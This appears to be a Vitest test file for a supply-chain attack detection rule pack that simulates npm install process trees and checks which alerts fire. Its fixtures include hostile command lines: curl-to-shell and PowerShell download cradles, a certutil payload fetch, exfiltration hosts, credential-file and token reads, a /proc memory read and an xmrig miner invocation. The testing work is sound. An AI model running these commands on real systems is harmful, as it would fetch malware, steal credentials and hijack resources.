import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { loadPacks } from '../../src/alerts/pack.js';
import { REPO } from '../helpers/cli.js';
import { alertTitles, Chain, type Proc } from './chain.js';

const EXEC = 'Suspicious Execution Inside a Package Install Subtree';
const EGRESS = 'Network Connection From a Package Install Subtree to a Non-Registry Host';
const DNS = 'DNS Query From a Package Install Subtree for a Non-Registry Name';
const PIPE_INSTALL = 'CI/CD Pipeline File Written From a Package Install Subtree';
const PIPE_WRITER = 'CI/CD Pipeline File Written by an Unexpected Process';
const CONFIG = 'Package Manager or Registry Configuration Written From an Install Subtree';
const REDIRECT = 'Package Manager Pointed at an Insecure or Unknown Registry';
const CRED = 'Credential Access From a Package Install Subtree';
const CRED_FILE = 'Credential File Read From a Package Install Subtree';
const MEM = "Another Process's Memory Read Through /proc/PID/mem";
const MINER = 'Cryptocurrency Miner Launched';
const CORR = 'Install Script Then Shell Then Non-Registry Egress Within Two Minutes';
const UNNAMED_PORT = 'Install Subtree Connecting to an Unnamed Address on a Non-Web Port or Cloud Metadata';
const NAMED_HUNT = 'Script Runtime in an Install Subtree Fetching From a Named Non-Registry Host (hunting)';

const PACK_DIR = join(REPO, 'rules/t1195.001/hardened');
const NODE_WIN = 'C:\\Program Files\\nodejs\\node.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';

/** npm install on Linux, then a lifecycle script `sh -c SCRIPT` in node_modules/PKG. */
function linuxInstall(pkg = 'evil-pkg', script = 'node index.js', start?: string): { c: Chain; npm: Proc; sh: Proc; node: Proc } {
  const c = new Chain('build-1', 'linux', start);
  const bash = c.root('/usr/bin/bash', 'bash', '/home/dev/app');
  const npm = c.spawn(bash, '/usr/bin/node', 'npm install');
  const sh = c.spawn(npm, '/bin/sh', `sh -c ${script}`, { cwd: `/home/dev/app/node_modules/${pkg}`, dt: 2000 });
  const node = c.spawn(sh, '/usr/bin/node', script);
  return { c, npm, sh, node };
}

function windowsInstall(script: string): { c: Chain; npm: Proc; cmd: Proc } {
  const c = new Chain('WS-1', 'windows');
  const ps = c.root('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe', 'C:\\src\\app');
  const npm = c.spawn(ps, NODE_WIN, `"${NODE_WIN}" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install`);
  const cmd = c.spawn(npm, CMD, `C:\\Windows\\system32\\cmd.exe /d /s /c "${script}"`, { cwd: 'C:\\src\\app\\node_modules\\pkg', dt: 2000 });
  return { c, npm, cmd };
}

describe('the hardened pack', () => {
  it('loads every rule, each with the metadata the issue asks for', async () => {
    const loaded = await loadPacks(['hardened']);
    expect(loaded.rejected).toEqual([]);
    expect(loaded.packs).toHaveLength(1);
    expect(loaded.packs[0]!.name).toBe('hardened');
    const files = readdirSync(PACK_DIR).filter((f) => f.endsWith('.yml') && f !== 'pack.yml');
    for (const file of files) {
      for (const doc of parseAllDocuments(readFileSync(join(PACK_DIR, file), 'utf8'))) {
        const rule = doc.toJS() as Record<string, unknown>;
        for (const key of ['id', 'title', 'description', 'level', 'tags']) expect(rule[key], `${file}: ${key}`).toBeDefined();
        if (rule.name === undefined) {
          // Alerting rules (not correlation bases) also say where they come from and what they confuse.
          expect(rule.references, `${file}: references`).toBeDefined();
          expect(rule.falsepositives, `${file}: falsepositives`).toBeDefined();
        }
      }
    }
  });
});

describe('install-time suspicious execution', () => {
  it('sees a downloader piped into a shell two levels below the lifecycle script (Linux)', async () => {
    const { c, node } = linuxInstall();
    const sh2 = c.spawn(node, '/bin/sh', '/bin/sh -c curl -fsSL https://get.example/i.sh | sh');
    c.spawn(sh2, '/usr/bin/curl', 'curl -fsSL https://get.example/i.sh');
    expect((await alertTitles(c)).filter((t) => t === EXEC)).toHaveLength(2);
  });

  it('is quiet for the same commands outside an install', async () => {
    const c = new Chain('dev-1', 'linux');
    const bash = c.root('/usr/bin/bash', 'bash', '/home/dev');
    const sh = c.spawn(bash, '/bin/sh', '/bin/sh -c curl -fsSL https://get.example/i.sh | sh');
    c.spawn(sh, '/usr/bin/curl', 'curl -fsSL https://get.example/i.sh');
    expect(await alertTitles(c)).toEqual([]);
  });

  it('flags Windows LOLBins and PowerShell download cradles in an install subtree', async () => {
    const { c, cmd } = windowsInstall('node install.js');
    const node = c.spawn(cmd, NODE_WIN, 'node  install.js');
    c.spawn(node, 'C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -f http://203.0.113.9/a.exe a.exe');
    c.spawn(node, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA');
    c.spawn(node, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')\"");
    c.spawn(node, 'C:\\Users\\dev\\AppData\\Local\\Temp\\x.exe', 'x.exe', { extra: { OriginalFileName: 'REGSVR32.EXE' } });
    expect((await alertTitles(c)).filter((t) => t === EXEC)).toHaveLength(4);
  });

  it('stays quiet on a Windows node-gyp build: cmd.exe, PowerShell Find-VisualStudio, python, MSBuild, cl.exe', async () => {
    const { c, cmd } = windowsInstall('node-gyp rebuild');
    const gyp = c.spawn(cmd, NODE_WIN, `"${NODE_WIN}" "C:\\Program Files\\nodejs\\node_modules\\npm\\node_modules\\node-gyp\\bin\\node-gyp.js" rebuild`);
    c.spawn(gyp, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', "powershell.exe -ExecutionPolicy Unrestricted -NoProfile -Command \"&{Add-Type -Path 'C:\\node-gyp\\lib\\Find-VisualStudio.cs';[VisualStudioConfiguration.Main]::PrintJson()}\"");
    c.spawn(gyp, 'C:\\Python312\\python.exe', 'python.exe -c "import sys; sys.stdout.buffer.write(sys.executable.encode(\'utf-8\'));"');
    c.resolve(gyp, 'nodejs.org', '104.20.22.46');
    c.connect(gyp, '104.20.22.46');
    const msb = c.spawn(gyp, 'C:\\VS\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe', 'MSBuild.exe build/binding.sln /p:Configuration=Release');
    c.spawn(msb, 'C:\\VS\\VC\\bin\\HostX64\\x64\\CL.exe', 'CL.exe /c /O2 ..\\src\\addon.cc');
    // Only node-gyp's header download, as a hunting signal.
    expect(await alertTitles(c)).toEqual([NAMED_HUNT]);
  });
});

describe('install-time egress', () => {
  it('judges destinations by name, exact or subdomain, never by substring', async () => {
    const { c, node } = linuxInstall();
    const curl = c.spawn(node, '/usr/bin/curl', 'curl -s https://registry.npmjs.org.evil.example/x');
    c.connect(curl, '198.51.100.7', 'registry.npmjs.org.evil.example');
    c.connect(curl, '104.16.1.35', 'registry.npmjs.org');
    // The same look-alike fetched by node over HTTPS is a download step's shape: a low hunting alert.
    c.connect(node, '198.51.100.7', 'registry.npmjs.org.evil.example');
    c.connect(node, '104.16.1.35', 'registry.npmjs.org');
    expect(await alertTitles(c)).toEqual([EXEC, EGRESS, NAMED_HUNT]);
  });

  it('a runtime reaching an exfiltration or callback service, or a name carrying data, is high', async () => {
    const { c, node } = linuxInstall();
    c.resolve(node, 'pastebin.com', '198.51.100.20');
    c.connect(node, '198.51.100.20');
    c.resolve(node, 'x.webhook.site', '198.51.100.21');
    c.resolve(node, '6465762d77732d303333.1613.cb.research.example', '198.51.100.22');
    c.resolve(node, 'storage.googleapis.com', '198.51.100.23');
    c.connect(node, '198.51.100.23');
    expect(await alertTitles(c)).toEqual([DNS, EGRESS, DNS, DNS, NAMED_HUNT]);
  });

  it('names an IP from a DNS answer; with no name known the unnamed-egress policy rates it (cloud metadata: medium)', async () => {
    const { c, node } = linuxInstall();
    c.resolve(node, 'exfil.example', '203.0.113.5');
    c.connect(node, '203.0.113.5');
    c.connect(node, '169.254.169.254');
    c.resolve(node, 'registry.npmjs.org', '104.16.1.35');
    c.connect(node, '104.16.1.35');
    expect(await alertTitles(c)).toEqual([NAMED_HUNT, UNNAMED_PORT]);
  });

  it('ignores DNS to a resolver on the local network, not DNS sent straight to a public address', async () => {
    const { c, node } = linuxInstall();
    c.connect(node, '10.255.255.53', undefined, 10, 53);
    c.connect(node, '127.0.0.53', undefined, 10, 53);
    c.connect(node, '198.51.100.53', undefined, 10, 53);
    expect(await alertTitles(c)).toEqual([UNNAMED_PORT]);
  });

  it('accepts GitHub release assets and nodejs.org only when node itself fetches them', async () => {
    const { c, node } = linuxInstall('bcrypt', 'node-pre-gyp install');
    c.connect(node, '140.82.121.3', 'github.com');
    const curl = c.spawn(node, '/usr/bin/curl', 'curl -sLO https://github.com/x/y/releases/download/v1/y.tgz');
    c.connect(curl, '140.82.121.3', 'github.com');
    const titles = await alertTitles(c);
    expect(titles.filter((t) => t === EGRESS)).toHaveLength(1);
  });
});

describe('CI/CD pipeline files', () => {
  it('is high when an install subtree writes one, in either path style, but not package contents', async () => {
    const { c, cmd } = windowsInstall('node setup.js');
    const node = c.spawn(cmd, NODE_WIN, 'node  setup.js');
    c.write(node, 'C:\\src\\app\\.github\\workflows\\discussion.yaml');
    c.write(node, 'C:\\src\\app\\node_modules\\left-pad\\.github\\workflows\\ci.yml');
    expect(await alertTitles(c)).toEqual([PIPE_INSTALL]);
  });

  it('is medium for an unexpected writer, quiet for git, editors and bots', async () => {
    const c = new Chain('dev-2', 'linux');
    const bash = c.root('/usr/bin/bash', 'bash', '/home/dev/repo');
    const git = c.spawn(bash, '/usr/bin/git', 'git checkout main');
    c.write(git, '/home/dev/repo/.github/workflows/ci.yml');
    const vim = c.spawn(bash, '/usr/bin/vim', 'vim .gitlab-ci.yml');
    c.write(vim, '/home/dev/repo/.gitlab-ci.yml');
    const bot = c.spawn(bash, '/usr/local/bin/ruby', 'ruby bin/run update_files', { user: 'dependabot' });
    c.write(bot, '/home/dev/repo/.github/workflows/ci.yml');
    const py = c.spawn(bash, '/usr/bin/python3', 'python3 /tmp/inject.py');
    c.write(py, '/home/dev/repo/.github/actions/setup/action.yml');
    c.write(py, '/home/dev/repo/Jenkinsfile');
    expect(await alertTitles(c)).toEqual([PIPE_WRITER, PIPE_WRITER]);
  });
});

describe('registry and package-manager configuration', () => {
  it('flags config files written from an install subtree', async () => {
    const { c, node } = linuxInstall();
    c.write(node, '/home/dev/.npmrc');
    c.write(node, '/home/dev/.cargo/config.toml');
    c.write(node, '/home/dev/app/node_modules/evil-pkg/.npmrc');
    expect(await alertTitles(c)).toEqual([CONFIG, CONFIG]);
  });

  it('flags registry flags to http:// or an unknown host, not to the public registries', async () => {
    const c = new Chain('dev-3', 'linux');
    const bash = c.root('/usr/bin/bash', 'bash', '/home/dev/app');
    c.spawn(bash, '/usr/bin/node', 'npm install --registry http://10.0.0.5:4873/');
    c.spawn(bash, '/usr/bin/python3', 'python3 -m pip install corp-utils --extra-index-url https://pypi.evil.example/simple');
    c.spawn(bash, '/usr/bin/node', 'npm config set registry http://registry.npmjs.org/');
    c.spawn(bash, '/usr/bin/node', 'npm install --registry=https://registry.npmjs.org/');
    c.spawn(bash, '/usr/bin/python3', 'python3 -m pip install requests --index-url https://pypi.org/simple');
    expect(await alertTitles(c)).toEqual([REDIRECT, REDIRECT, REDIRECT]);
  });
});

describe('credential access', () => {
  it('flags token commands, secret scanners, environment dumps and credential file reads in an install', async () => {
    const { c, node } = linuxInstall();
    c.spawn(node, '/usr/bin/gh', 'gh auth token');
    c.spawn(node, '/home/dev/.cache/trufflehog', '/home/dev/.cache/trufflehog filesystem /home/dev --json');
    c.spawn(node, '/usr/bin/env', 'env');
    c.spawn(node, '/usr/bin/env', '/usr/bin/env node bin/cli.js');
    c.open(node, '/home/dev/.aws/credentials');
    expect(await alertTitles(c)).toEqual([CRED, CRED, CRED, CRED_FILE]);
  });

  it('flags reading another process memory anywhere, and miners anywhere', async () => {
    const c = new Chain('runner-1', 'linux');
    const worker = c.root('/home/runner/bin/Runner.Worker', 'Runner.Worker spawnclient 1 2', '/home/runner/work');
    const py = c.spawn(worker, '/usr/bin/python3', 'python3');
    c.open(py, '/proc/2187/mem');
    c.open(py, '/proc/self/status');
    c.spawn(worker, '/tmp/x/xmrig', './xmrig -o pool.supportxmr.com:8080 -u 48edfHu7V9Z8 -p worker');
    expect(await alertTitles(c)).toEqual([MEM, MINER]);
  });
});

describe('the install-script → shell → egress correlation', () => {
  function sequence(egressDelay: number): Chain {
    const { c, node } = linuxInstall('pkg', 'node setup_bun.js', '2026-05-01T10:00:00Z');
    const sh = c.spawn(node, '/bin/sh', '/bin/sh -c bun --version || echo missing');
    const helper = c.spawn(sh, '/usr/bin/curl', 'curl -fsSL https://bun.sh/install', { dt: 10 });
    c.connect(helper, '104.21.56.130', 'bun.sh', egressDelay);
    return c;
  }

  it('fires when the egress follows within two minutes', async () => {
    const titles = await alertTitles(sequence(30_000));
    expect(titles).toContain(CORR);
    expect(titles).toContain(EGRESS);
  });

  it('does not fire when the egress comes later than two minutes', async () => {
    const titles = await alertTitles(sequence(180_000));
    expect(titles).not.toContain(CORR);
    expect(titles).toContain(EGRESS);
  });
});
